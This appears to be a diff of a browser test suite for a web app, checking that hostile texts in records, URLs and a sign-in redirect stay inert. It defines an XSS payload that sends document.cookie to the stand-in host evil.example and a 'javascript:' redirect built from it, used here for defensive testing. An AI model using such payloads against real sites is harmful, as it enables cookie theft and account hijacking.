@@ -2,7 +2,7 @@
 // script runs, no request leaves, no dialog opens, and the policy has nothing to stop.
 import assert from "node:assert/strict";
 import { after, before, describe, it } from "node:test";
-import { launch, noBrowser, nothingHappened, Proxy, Server, settled, watched } from "./support.mjs";
+import { launch, noBrowser, nothingHappened, Proxy, Server, settled, visit, watched } from "./support.mjs";
 
 const act = "window.hacked=1;fetch('//evil.example/'+document.cookie);alert(1)";
 const forms = [
@@ -95,15 +95,14 @@ describe("hostile texts", { skip: noBrowser }, () => {
     const page = await watched(context, proxy.url);
     await page.goto(`${proxy.url}/#/default/record/${seqs[0]}`);
     for (const [i, seq] of seqs.entries()) {
-      await page.evaluate((to) => { location.hash = to; }, `#/default/record/${seq}`);
-      await page.waitForFunction((n) => document.querySelector(".eyebrow")?.textContent.replaceAll(",", "").includes(` ${n}`) && !document.querySelector(".loading"), seq);
+      await visit(page, `/default/record/${seq}`);
       const shown = await page.locator("main").innerText();
       assert.ok(shown.includes(`№${i} `), `text ${i} is not shown: ${shown.slice(0, 200)}`);
       if (i % 10 === 0 || i < 10) await inert(page, `the record of text ${i}`);
       else nothingHappened(page);
     }
     // All of a text of a megabyte can be unfolded, part by part.
-    await page.evaluate((to) => { location.hash = to; }, `#/default/record/${seqs[0]}`);
+    await visit(page, `/default/record/${seqs[0]}`);
     await page.getByRole("button", { name: /^Show .* of 1,048,/ }).first().click();
     await inert(page, "an unfolded text");
     await context.close();
@@ -125,8 +124,13 @@ describe("hostile texts", { skip: noBrowser }, () => {
       "records", "records?kind=note", `records?flag=${encodeURIComponent(forms[0])}`, "runs?every=true", `runs/${question.value}`, `run-dag/${record(3)}`, `run-dag/${record(3)}?beside=${record(7)}`,
       "citations?view=answers", "citations?view=conflicts", "citations?view=sources", `citations/${record(1)}`, `source/${named(1)}`, `subject/${named(1)}`, `passage/${event.record.citations[0].chunk_hash}`, `stories/${named(2)}`,
     ];
-    for (const at of [...views.map((view) => `/default/${view}`), "/default", "/default/changed", "/default/runs", "/default/citations", "/default/stories", "/default/search?q=%E2%84%968", `/default/run/${encodeURIComponent(`№8 ${forms[2]}`.slice(0, 120))}`,
-      `/default/search?q=${encodeURIComponent(forms[0])}`, `/${encodeURIComponent(forms[0])}/record/1`, `/default/${encodeURIComponent(forms[2])}`, `/default/record/${encodeURIComponent(forms[3])}`, `/-/sign-in?back=javascript:${encodeURIComponent(act)}`]) {
+    await page.goto(`${proxy.url}/#/default`);
+    for (const at of [...views.map((view) => `/default/${view}`), "/default", "/default/changed", "/default/runs", "/default/citations", "/default/stories", "/default/search?q=%E2%84%968", `/default/run/${encodeURIComponent(`№8 ${forms[2]}`.slice(0, 120))}`]) {
+      await visit(page, at);
+      await inert(page, at);
+    }
+    // Hostile addresses are those of links, so the page begins with them.
+    for (const at of [`/default/search?q=${encodeURIComponent(forms[0])}`, `/${encodeURIComponent(forms[0])}/record/1`, `/default/${encodeURIComponent(forms[2])}`, `/default/record/${encodeURIComponent(forms[3])}`, `/-/sign-in?back=javascript:${encodeURIComponent(act)}`]) {
       await page.goto("about:blank");
       await page.goto(`${proxy.url}/#${at}`);
       await settled(page);
